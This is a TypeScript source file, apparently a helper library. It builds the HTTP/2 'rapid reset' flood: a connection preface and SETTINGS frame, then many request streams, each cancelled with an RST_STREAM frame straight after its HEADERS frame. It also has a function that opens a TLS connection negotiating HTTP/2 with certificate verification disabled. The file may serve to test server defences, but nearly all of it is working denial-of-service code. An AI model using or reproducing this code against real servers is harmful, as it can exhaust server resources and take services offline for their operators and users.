import { connect, type TLSSocket } from "node:tls";

/** Bytes of HTTP/2 (RFC 9113) as a client of bad will sends them. */

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const [HEADERS, RST_STREAM, SETTINGS] = [1, 3, 4];
const END_OF_STREAM_AND_HEADERS = 5;
/** GET, /, https and the authority `a` (RFC 7541, appendix A). */
const REQUEST = Buffer.from([0x82, 0x84, 0x87, 0x41, 0x01, 0x61]);
const CANCEL = Buffer.from([0, 0, 0, 8]);

function frame(type: number, flags: number, stream: number, payload: Uint8Array): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** The start of a connection, and requests on it that are each taken back at once. */
export function rapidReset(requests: number): Buffer {
  const streams = Array.from({ length: requests }, (_, i) => 2 * i + 1);
  const pairs = streams.flatMap((id) => [
    frame(HEADERS, END_OF_STREAM_AND_HEADERS, id, REQUEST),
    frame(RST_STREAM, 0, id, CANCEL),
  ]);
  return Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, new Uint8Array()), ...pairs]);
}

/** A connection whose handshake has chosen HTTP/2. */
export function connectHttp2(address: string): Promise<TLSSocket> {
  const [host = "", port = ""] = address.split(":");
  return new Promise((resolve, reject) => {
    const socket = connect({ host, port: Number(port), ALPNProtocols: ["h2"], rejectUnauthorized: false }, () => {
      socket.off("error", reject).on("error", () => {});
      resolve(socket.resume());
    });
    socket.once("error", reject);
  });
}
